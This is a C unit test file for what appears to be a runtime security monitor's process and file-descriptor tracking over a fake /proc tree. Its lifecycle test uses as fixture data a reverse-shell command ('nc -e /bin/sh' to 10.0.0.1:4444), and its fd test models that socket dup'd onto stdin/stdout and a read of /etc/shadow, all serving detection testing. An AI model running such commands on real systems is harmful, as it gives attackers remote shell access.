/* SPDX-License-Identifier: Apache-2.0 */
/*
 * test_live_state.c - the live process table over a fake /proc tree built at test time: the
 * initial scan (every field), ancestors, container and pod from the cgroup, user names from
 * the process's own root, fork/exec/exit (deferred removal), threads, on-demand reads,
 * counted eviction, and the fd table (open, socket tuples, dup, close, close-on-exec, limits).
 */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
#include <cmocka.h>

#include "live/state.h"

#define CID "0b8ab1c5e9f7f5f11f5d74f1a83e7e7b4e0d5de2b6d4bb6cf2a4f6f22e7a7a21"
#define POD_ "2bc6e4a6_5b0e_4c21_9d6c_2d29fa1b6d3f"

static char root[256];

static void wfile(const char *rel, const char *data, size_t len)
{
	char path[512];
	snprintf(path, sizeof(path), "%s/%s", root, rel);
	FILE *f = fopen(path, "wb");
	if (!f)
		fail_msg("cannot write %s", path);
	fwrite(data, 1, len, f);
	fclose(f);
}

static void wstr(const char *rel, const char *data)
{
	wfile(rel, data, strlen(data));
}

static void mkd(const char *rel)
{
	char path[512];
	snprintf(path, sizeof(path), "%s/%s", root, rel);
	mkdir(path, 0755);
}

static void lnk(const char *target, const char *rel)
{
	char path[512];
	snprintf(path, sizeof(path), "%s/%s", root, rel);
	if (symlink(target, path) != 0)
		fail_msg("symlink %s", path);
}

struct fake {
	int pid, ppid, sid, pgid, tty, uid, gid;
	unsigned long long start;
	const char *comm, *exe, *cwd;
	const char *argv; size_t argv_len;
	const char *cgroup, *rootfs, *mntns, *loginuid;
};

static void add_proc(const struct fake *f)
{
	char d[64], rel[128], buf[1024];
	snprintf(d, sizeof(d), "%d", f->pid);
	mkd(d);
	snprintf(rel, sizeof(rel), "%s/ns", d);
	mkd(rel);
	snprintf(rel, sizeof(rel), "%s/stat", d);
	snprintf(buf, sizeof(buf),
		 "%d (%s) S %d %d %d %d -1 4194560 100 0 0 0 1 2 0 0 20 0 1 0 %llu 1000 10 18446744073709551615\n",
		 f->pid, f->comm, f->ppid, f->pgid, f->sid, f->tty, f->start);
	wstr(rel, buf);
	snprintf(rel, sizeof(rel), "%s/status", d);
	snprintf(buf, sizeof(buf),
		 "Name:\t%s\nTgid:\t%d\nPid:\t%d\nPPid:\t%d\nUid:\t0\t%d\t%d\t%d\nGid:\t0\t%d\t%d\t%d\n"
		 "NStgid:\t%d\t7\nNSpid:\t%d\t7\nNSpgid:\t%d\t7\nCapInh:\t0000000000000000\n"
		 "CapPrm:\t000001ffffffffff\nCapEff:\t000001ffffffffff\n",
		 f->comm, f->pid, f->pid, f->ppid, f->uid, f->uid, f->uid, f->gid, f->gid,
		 f->gid, f->pid, f->pid, f->pgid); /* real ids 0: the effective ones count */
	wstr(rel, buf);
	snprintf(rel, sizeof(rel), "%s/comm", d);
	snprintf(buf, sizeof(buf), "%s\n", f->comm);
	wstr(rel, buf);
	snprintf(rel, sizeof(rel), "%s/cmdline", d);
	wfile(rel, f->argv, f->argv_len);
	snprintf(rel, sizeof(rel), "%s/environ", d);
	wfile(rel, "PATH=/bin\0HOME=/root\0", 21);
	snprintf(rel, sizeof(rel), "%s/cgroup", d);
	wstr(rel, f->cgroup);
	snprintf(rel, sizeof(rel), "%s/loginuid", d);
	wstr(rel, f->loginuid);
	snprintf(rel, sizeof(rel), "%s/exe", d);
	lnk(f->exe, rel);
	snprintf(rel, sizeof(rel), "%s/cwd", d);
	lnk(f->cwd, rel);
	snprintf(rel, sizeof(rel), "%s/ns/mnt", d);
	lnk(f->mntns, rel);
	snprintf(rel, sizeof(rel), "%s/root", d);
	snprintf(buf, sizeof(buf), "%s/%s", root, f->rootfs);
	lnk(buf, rel);
}

#define ARGV(s) s, sizeof(s)

static int setup(void **state)
{
	(void)state;
	snprintf(root, sizeof(root), "/tmp/vg-live-proc-XXXXXX");
	if (!mkdtemp(root))
		return -1;
	wstr("stat", "cpu  1 2 3\nbtime 1700000000\nprocesses 5\n");
	mkd("hostfs");
	mkd("hostfs/etc");
	wstr("hostfs/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n");
	wstr("hostfs/etc/group", "root:x:0:\nalice:x:1000:\n");
	mkd("ctrfs");
	mkd("ctrfs/etc");
	wstr("ctrfs/etc/passwd", "root:x:0:0:root:/root:/bin/sh\nnginx:x:1000:1000::/var/www:/sbin/nologin\n");
	wstr("ctrfs/etc/group", "root:x:0:\nwww:x:1000:\n");
	static const struct fake procs[] = {
		{ 1, 0, 1, 1, 0, 0, 0, 1, "systemd", "/usr/lib/systemd/systemd", "/",
		  ARGV("/sbin/init\0splash"), "0::/init.scope\n", "hostfs", "mnt:[4026531841]",
		  "4294967295" },
		{ 100, 1, 100, 100, 0, 0, 0, 500, "containerd-shim", "/usr/bin/containerd-shim-runc-v2",
		  "/run", ARGV("/usr/bin/containerd-shim-runc-v2\0-namespace\0k8s.io"),
		  "0::/system.slice/containerd.service\n", "hostfs", "mnt:[4026531841]", "4294967295" },
		{ 200, 100, 200, 200, 34816, 1000, 1000, 900, "bash", "/usr/bin/bash", "/var/www",
		  ARGV("bash\0-i"),
		  "0::/kubepods.slice/kubepods-besteffort.slice/kubepods-besteffort-pod" POD_
		  ".slice/cri-containerd-" CID ".scope\n",
		  "ctrfs", "mnt:[4026532500]", "4294967295" },
		{ 300, 1, 300, 300, 34817, 1000, 1000, 1000, "sshd", "/usr/sbin/sshd", "/",
		  ARGV("sshd: alice [priv]"), "0::/user.slice/user-1000.slice/session-2.scope\n",
		  "hostfs", "mnt:[4026531841]", "1000" },
		{ 2, 0, 0, 0, 0, 0, 0, 2, "kthreadd", "/nonexistent", "/", "", 0, "0::/\n", "hostfs",
		  "mnt:[4026531841]", "4294967295" },
	};
	for (size_t i = 0; i < sizeof(procs) / sizeof(procs[0]); i++)
		add_proc(&procs[i]);
	mkd("notapid");
	return 0;
}

static int teardown(void **state)
{
	(void)state;
	char cmd[512];
	snprintf(cmd, sizeof(cmd), "rm -rf '%s'", root);
	return system(cmd) == 0 ? 0 : -1;
}

static struct vg_live_state *new_state(const struct vg_live_limits *lim)
{
	struct vg_live_state *st = NULL;
	assert_int_equal(vg_live_state_new(root, "node-1", lim, &st), 0);
	assert_int_equal(vg_live_state_scan_proc(st), 5);
	return st;
}

static void test_scan(void **state)
{
	(void)state;
	struct vg_live_state *st = new_state(NULL);
	struct vg_sys_event ev;
	memset(&ev, 0, sizeof(ev));
	assert_int_equal(vg_live_state_fill(st, 200, 200, -1, -1, &ev), 0);
	const struct vg_proc *p = ev.proc;
	assert_non_null(p);
	assert_int_equal(p->pid, 200);
	assert_int_equal(p->tid, 200);
	assert_int_equal(p->ppid, 100);
	assert_int_equal(p->vpid, 7);
	assert_int_equal(p->vpgid, 7);
	assert_int_equal(p->sid, 200);
	assert_string_equal(p->comm.ptr, "bash");
	assert_string_equal(p->exe.ptr, "bash");
	assert_string_equal(p->exepath.ptr, "/usr/bin/bash");
	assert_string_equal(p->args.ptr, "-i");
	assert_string_equal(p->cmdline.ptr, "bash -i");
	assert_string_equal(p->cwd.ptr, "/var/www");
	assert_true(p->flags & VG_PROC_HAS_TTY);
	assert_int_equal(p->tty, 34816);
	assert_true(p->flags & VG_PROC_HAS_LOGINUID);
	assert_int_equal(p->loginuid, UINT32_MAX);
	assert_true(p->flags & VG_PROC_HAS_CAPS);
	assert_int_equal(p->cap_effective, 0x1ffffffffffull);
	assert_int_equal(p->clone_ts, 1700000000ull * 1000000000ull + 900ull * (1000000000ull / (uint64_t)sysconf(_SC_CLK_TCK)));
	assert_int_equal(p->nenv, 2);
	assert_string_equal(p->env[1].ptr, "HOME=/root");
	/* ancestors */
	assert_non_null(p->parent);
	assert_string_equal(p->parent->comm.ptr, "containerd-shim");
	assert_string_equal(p->parent->cmdline.ptr, "containerd-shim -namespace k8s.io");
	assert_non_null(p->parent->parent);
	assert_string_equal(p->parent->parent->comm.ptr, "systemd");
	assert_string_equal(p->parent->parent->exe.ptr, "/sbin/init");
	assert_null(p->parent->parent->parent);
	/* user names from the container's own /etc/passwd */
	assert_non_null(ev.user);
	assert_int_equal(ev.user->uid, 1000);
	assert_string_equal(ev.user->name.ptr, "nginx");
	assert_string_equal(ev.user->homedir.ptr, "/var/www");
	assert_string_equal(ev.group->name.ptr, "www");
	assert_non_null(ev.loginuser);
	assert_int_equal(ev.loginuser->uid, UINT32_MAX);
	assert_null(ev.loginuser->name.ptr);
	/* container and pod */
	assert_non_null(ev.container);
	assert_string_equal(ev.container->id.ptr, "0b8ab1c5e9f7");
	assert_string_equal(ev.container->full_id.ptr, CID);
	assert_string_equal(ev.container->type.ptr, "containerd");
	assert_non_null(ev.pod);
	assert_string_equal(ev.pod->uid.ptr, "2bc6e4a6-5b0e-4c21-9d6c-2d29fa1b6d3f");
	assert_string_equal(ev.hostname.ptr, "node-1");

	/* a host process: same uid, host names; loginuid resolved */
	assert_int_equal(vg_live_state_fill(st, 300, 300, -1, -1, &ev), 0);
	assert_string_equal(ev.user->name.ptr, "alice");
	assert_string_equal(ev.group->name.ptr, "alice");
	assert_string_equal(ev.loginuser->name.ptr, "alice");
	assert_null(ev.container);
	assert_null(ev.pod);
	assert_string_equal(ev.proc->exe.ptr, "sshd: alice [priv]"); /* argv[0] as set */
	assert_string_equal(ev.proc->cmdline.ptr, "sshd");               /* comm + no args */
	/* kernel thread: empty cmdline, exe = comm */
	assert_int_equal(vg_live_state_fill(st, 2, 2, -1, -1, &ev), 0);
	assert_string_equal(ev.proc->exe.ptr, "kthreadd");
	assert_string_equal(ev.proc->cmdline.ptr, "kthreadd");
	assert_null(ev.proc->parent);
	/* the kernel's ids win and update the table; an unknown uid is named by its number */
	assert_int_equal(vg_live_state_fill(st, 300, 300, 4242, 0, &ev), 0);
	assert_int_equal(ev.user->uid, 4242);
	assert_string_equal(ev.user->name.ptr, "4242");
	assert_null(ev.user->homedir.ptr);
	assert_string_equal(ev.group->name.ptr, "root");
	assert_int_equal(vg_live_state_fill(st, 300, 300, 0, -1, &ev), 0);
	assert_string_equal(ev.user->name.ptr, "root");
	/* unknown and not in /proc */
	assert_int_equal(vg_live_state_fill(st, 999, 999, -1, -1, &ev), 0);
	assert_null(ev.proc);
	assert_null(ev.user);
	struct vg_live_state_stats s;
	vg_live_state_stats(st, &s);
	assert_int_equal(s.procs, 5);
	assert_int_equal(s.proc_missing, 1);
	assert_int_equal(s.containers, 1);
	assert_int_equal(s.userdb_loads, 2);
	/* a distroless container (no /etc/passwd): numbers for names, and the missing file is
	 * not looked for again at every event */
	mkd("emptyfs");
	static const struct fake distroless = {
		400, 100, 400, 400, 0, 65532, 65532, 950, "app", "/app", "/", "/app", 5,
		"0::/system.slice/docker-" CID ".scope\n", "emptyfs", "mnt:[4026532600]",
		"4294967295"
	};
	add_proc(&distroless);
	assert_int_equal(vg_live_state_fill(st, 400, 400, -1, -1, &ev), 0);
	assert_int_equal(ev.user->uid, 65532);
	assert_string_equal(ev.user->name.ptr, "65532");
	assert_string_equal(ev.group->name.ptr, "65532");
	assert_int_equal(vg_live_state_fill(st, 400, 400, -1, -1, &ev), 0);
	vg_live_state_stats(st, &s);
	assert_int_equal(s.userdb_loads, 3);
	assert_int_equal(s.proc_lazy, 1);
	vg_live_state_free(st);
	assert_int_equal(vg_live_state_new(NULL, NULL, NULL, NULL), -EINVAL);
	assert_int_equal(vg_live_state_new("/nonexistent-proc", NULL, NULL, &st), 0);
	assert_true(vg_live_state_scan_proc(st) < 0);
	vg_live_state_free(st);
}

static void test_lifecycle(void **state)
{
	(void)state;
	struct vg_live_state *st = new_state(NULL);
	struct vg_sys_event ev;
	/* bash (200) forks 5000 (gone from /proc by the time we look), which execs nc */
	assert_int_equal(vg_live_on_fork(st, 200, 5000, 5000, 0x11 /* SIGCHLD */, 123), 0);
	assert_int_equal(vg_live_state_fill(st, 5000, 5000, -1, -1, &ev), 0);
	assert_string_equal(ev.proc->comm.ptr, "bash");
	assert_int_equal(ev.proc->ppid, 200);
	assert_int_equal(ev.proc->clone_ts, 123);
	assert_string_equal(ev.container->id.ptr, "0b8ab1c5e9f7"); /* inherited */
	assert_string_equal(ev.user->name.ptr, "nginx");
	struct vg_live_exec x;
	vg_live_exec_init(&x);
	x.pid = x.tid = 5000;
	x.exepath = "/usr/bin/nc.openbsd";
	static const char nc_argv[] = "nc\0-e\0/bin/sh\0" "10.0.0.1\0" "4444";
	x.argv = nc_argv;
	x.argv_len = sizeof(nc_argv); /* with the last NUL, as the kernel gives it */
	x.comm = "nc";
	x.cwd = "/tmp";
	x.has_tty = true;
	x.tty = 0;
	x.exe_flags = VG_PROC_EXE_UPPER_LAYER | VG_PROC_EXE_WRITABLE;
	x.ts = 456;
	assert_int_equal(vg_live_on_exec(st, &x), 0);
	assert_int_equal(vg_live_state_fill(st, 5000, 5000, -1, -1, &ev), 0);
	const struct vg_proc *p = ev.proc;
	assert_string_equal(p->comm.ptr, "nc");
	assert_string_equal(p->exe.ptr, "nc");
	assert_string_equal(p->exepath.ptr, "/usr/bin/nc.openbsd");
	assert_string_equal(p->args.ptr, "-e /bin/sh 10.0.0.1 4444");
	assert_string_equal(p->cmdline.ptr, "nc -e /bin/sh 10.0.0.1 4444");
	assert_string_equal(p->cwd.ptr, "/tmp");
	assert_int_equal(p->tty, 0);
	assert_int_equal(p->exec_ts, 456);
	assert_true(p->flags & VG_PROC_EXE_UPPER_LAYER);
	assert_false(p->flags & VG_PROC_EXE_FROM_MEMFD);
	assert_string_equal(p->parent->comm.ptr, "bash");
	assert_string_equal(p->parent->parent->comm.ptr, "containerd-shim");
	assert_int_equal(p->nenv, 2); /* kept: the record had no env */
	/* no comm in the record and no /proc: basename of argv[0] */
	vg_live_exec_init(&x);
	x.pid = 5000;
	x.argv = "/bin/busybox\0sh";
	x.argv_len = 16;
	x.env = "A=1\0B=2\0C=3";
	x.env_len = 11;
	assert_int_equal(vg_live_on_exec(st, &x), 0);
	p = vg_live_proc(st, 5000, 5000);
	assert_string_equal(p->comm.ptr, "busybox");
	assert_string_equal(p->cmdline.ptr, "busybox sh");
	assert_string_equal(p->exepath.ptr, "/usr/bin/nc.openbsd"); /* kept: gone from /proc */
	assert_int_equal(p->nenv, 3);
	assert_string_equal(p->env[2].ptr, "C=3");

	/* a thread of 5000: shares the entry, tid is its own */
	assert_int_equal(vg_live_on_fork(st, 5000, 5000, 5001, 0x00010000 | 0x100, 0), 0);
	p = vg_live_proc(st, -1, 5001);
	assert_non_null(p);
	assert_int_equal(p->pid, 5000);
	assert_int_equal(p->tid, 5001);
	assert_string_equal(p->comm.ptr, "busybox");
	assert_int_equal(vg_live_on_exit(st, 5000, 5001), 0); /* thread exit: nothing removed */
	vg_live_state_end_event(st);
	assert_non_null(vg_live_proc(st, 5000, 5000));

	/* exit is deferred until the event has been evaluated */
	assert_int_equal(vg_live_on_exit(st, 5000, 5000), 0);
	assert_int_equal(vg_live_state_fill(st, 5000, 5000, -1, -1, &ev), 0);
	assert_non_null(ev.proc);
	assert_string_equal(ev.proc->comm.ptr, "busybox");
	vg_live_state_end_event(st);
	struct vg_live_state_stats s;
	vg_live_state_stats(st, &s);
	assert_int_equal(s.proc_removed, 1);
	assert_null(vg_live_proc(st, 5000, 5000));

	/* fork of an unknown parent that is in /proc (read on demand) */
	vg_live_state_free(st);
	assert_int_equal(vg_live_state_new(root, NULL, NULL, &st), 0);
	assert_int_equal(vg_live_on_fork(st, 300, 6000, 6000, 0, 0), 0);
	p = vg_live_proc(st, 6000, 6000);
	assert_string_equal(p->comm.ptr, "sshd");
	assert_int_equal(p->ppid, 300);
	assert_string_equal(p->parent->comm.ptr, "sshd");
	assert_null(p->parent->parent); /* 1 is not known: no lazy reads while walking */
	vg_live_state_stats(st, &s);
	assert_int_equal(s.proc_lazy, 1);
	/* CLONE_PARENT: the child's parent is the caller's parent */
	assert_int_equal(vg_live_on_fork(st, 6000, 6001, 6001, 0x00008000, 0), 0);
	assert_int_equal(vg_live_proc(st, 6001, 6001)->ppid, 300);
	/* orphans: 300 forks 700 and exits; the kernel reparents 700 to init (its stat says
	 * ppid 1 now), so proc.pname is init's name, as libs reparents */
	static const struct fake orphan = {
		700, 1, 300, 300, 0, 0, 0, 990, "sleep", "/usr/bin/sleep", "/", "sleep\0" "60", 9,
		"0::/\n", "hostfs", "mnt:[4026531841]", "4294967295"
	};
	assert_non_null(vg_live_proc(st, 1, 1)); /* init is known */
	assert_int_equal(vg_live_on_fork(st, 300, 700, 700, 0, 0), 0);
	add_proc(&orphan);
	assert_int_equal(vg_live_proc(st, 700, 700)->ppid, 300);
	assert_int_equal(vg_live_on_exit(st, 300, 300), 0);
	vg_live_state_end_event(st);
	p = vg_live_proc(st, 700, 700);
	assert_int_equal(p->ppid, 1);
	assert_non_null(p->parent);
	assert_string_equal(p->parent->comm.ptr, "systemd");
	/* the parent moved itself into a container's cgroup after its exec, then forks: the child
	 * is in the container even when it is gone from /proc before we look */
	assert_int_equal(vg_live_state_fill(st, 300, 300, -1, -1, &ev), 0);
	assert_null(ev.container);
	wstr("300/cgroup", "0::/system.slice/docker-" CID ".scope\n");
	assert_int_equal(vg_live_on_fork(st, 300, 6100, 6100, 0, 0), 0);
	assert_int_equal(vg_live_state_fill(st, 6100, 6100, -1, -1, &ev), 0);
	assert_non_null(ev.container);
	assert_string_equal(ev.container->type.ptr, "docker");
	vg_live_state_free(st);
}

static void test_eviction(void **state)
{
	(void)state;
	struct vg_live_limits lim;
	vg_live_limits_init(&lim);
	lim.max_procs = 5;
	struct vg_live_state *st = new_state(&lim);
	/* touch 1, 100, 200, 300 so 2 is the least recently used */
	for (int pid = 1; pid <= 300; pid += (pid == 1 ? 99 : 100))
		assert_non_null(vg_live_proc(st, pid, pid));
	assert_int_equal(vg_live_on_fork(st, 200, 7000, 7000, 0, 0), 0);
	struct vg_live_state_stats s;
	vg_live_state_stats(st, &s);
	assert_int_equal(s.procs, 5);
	assert_int_equal(s.proc_evicted, 1);
	assert_non_null(vg_live_proc(st, 7000, 7000));
	assert_non_null(vg_live_proc(st, 200, 200));
	/* 2 was evicted; asking for it reads it again from /proc */
	assert_non_null(vg_live_proc(st, 2, 2));
	vg_live_state_stats(st, &s);
	assert_int_equal(s.proc_lazy, 1);
	assert_int_equal(s.proc_evicted, 2);
	vg_live_state_free(st);
}

static void test_fds(void **state)
{
	(void)state;
	struct vg_live_limits lim;
	vg_live_limits_init(&lim);
	lim.max_fds = 4;
	lim.max_fd_num = 100;
	struct vg_live_state *st = new_state(&lim);
	struct vg_fd fd;
	memset(&fd, 0, sizeof(fd));
	fd.num = 3;
	fd.type = VG_FD_FILE;
	fd.name = VG_STR("/etc/shadow");
	fd.open_flags = VG_O_RDONLY | VG_O_CLOEXEC;
	assert_int_equal(vg_live_fd_set(st, 200, &fd), 0);
	const struct vg_fd *f = vg_live_fd(st, 200, 3);
	assert_non_null(f);
	assert_string_equal(f->name.ptr, "/etc/shadow");
	assert_ptr_not_equal(f->name.ptr, fd.name.ptr); /* copied */
	assert_null(f->nameraw.ptr);
	assert_null(vg_live_fd(st, 200, 4));
	assert_null(vg_live_fd(st, 100, 3));

	/* socket + connect: client = local */
	memset(&fd, 0, sizeof(fd));
	fd.num = 4;
	fd.type = VG_FD_IPV4_SOCK;
	fd.l4proto = VG_L4_TCP;
	assert_int_equal(vg_live_fd_set(st, 200, &fd), 0);
	struct vg_ipaddr l, r;
	assert_true(vg_ipaddr_parse("10.1.0.5", 8, &l));
	assert_true(vg_ipaddr_parse("10.0.0.1", 8, &r));
	assert_int_equal(vg_live_fd_connect(st, 200, 4, &l, 40000, &r, 4444, false, NULL), 0);
	f = vg_live_fd(st, 200, 4);
	assert_string_equal(f->name.ptr, "10.1.0.5:40000->10.0.0.1:4444");
	assert_true(f->flags & VG_FD_CONNECTED);
	assert_false(f->flags & VG_FD_IS_SERVER);
	assert_int_equal(f->sport, 4444);
	assert_int_equal(f->type, VG_FD_IPV4_SOCK);
	/* dup2 onto stdin/stdout: copies */
	assert_int_equal(vg_live_fd_dup(st, 200, 4, 0, false), 0);
	assert_int_equal(vg_live_fd_dup(st, 200, 4, 1, false), 0);
	f = vg_live_fd(st, 200, 1);
	assert_non_null(f);
	assert_int_equal(f->num, 1);
	assert_int_equal(f->type, VG_FD_IPV4_SOCK);
	assert_string_equal(f->name.ptr, "10.1.0.5:40000->10.0.0.1:4444");
	/* limit: 4 fds (3, 4, 0, 1): a fifth is dropped and counted, replacing is fine */
	memset(&fd, 0, sizeof(fd));
	fd.num = 9;
	fd.type = VG_FD_PIPE;
	assert_int_equal(vg_live_fd_set(st, 200, &fd), -ENOSPC);
	fd.num = 101;
	vg_live_fd_close(st, 200, 0);
	assert_int_equal(vg_live_fd_set(st, 200, &fd), -ENOSPC); /* above max_fd_num */
	fd.num = 1;
	assert_int_equal(vg_live_fd_set(st, 200, &fd), 0);
	assert_int_equal(vg_live_fd(st, 200, 1)->type, VG_FD_PIPE);
	struct vg_live_state_stats s;
	vg_live_state_stats(st, &s);
	assert_int_equal(s.fd_dropped, 2);
	/* dup of an unknown fd removes the target */
	assert_int_equal(vg_live_fd_dup(st, 200, 50, 1, false), 0);
	assert_null(vg_live_fd(st, 200, 1));
	/* accept: server = local */
	assert_int_equal(vg_live_fd_connect(st, 200, 5, &l, 8080, &r, 51000, true, NULL), 0);
	f = vg_live_fd(st, 200, 5);
	assert_true(f->flags & VG_FD_IS_SERVER);
	assert_string_equal(f->name.ptr, "10.0.0.1:51000->10.1.0.5:8080");
	/* fork copies the table; exec drops CLOEXEC fds */
	assert_int_equal(vg_live_on_fork(st, 200, 8000, 8000, 0, 0), 0);
	assert_non_null(vg_live_fd(st, 8000, 3));
	assert_non_null(vg_live_fd(st, 8000, 5));
	struct vg_live_exec x;
	vg_live_exec_init(&x);
	x.pid = 8000;
	x.argv = "cat";
	x.argv_len = 4;
	assert_int_equal(vg_live_on_exec(st, &x), 0);
	assert_null(vg_live_fd(st, 8000, 3));
	assert_non_null(vg_live_fd(st, 8000, 5));
	assert_non_null(vg_live_fd(st, 200, 3)); /* the parent's table is its own */
	/* unix socket */
	assert_int_equal(vg_live_fd_connect(st, 200, 6, NULL, 0, NULL, 0, false, "/run/x.sock"), 0);
	assert_int_equal(vg_live_fd(st, 200, 6)->type, VG_FD_UNIX_SOCK);
	assert_string_equal(vg_live_fd(st, 200, 6)->name.ptr, "/run/x.sock");
	vg_live_state_free(st);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(test_scan, setup, teardown),
		cmocka_unit_test_setup_teardown(test_lifecycle, setup, teardown),
		cmocka_unit_test_setup_teardown(test_eviction, setup, teardown),
		cmocka_unit_test_setup_teardown(test_fds, setup, teardown),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
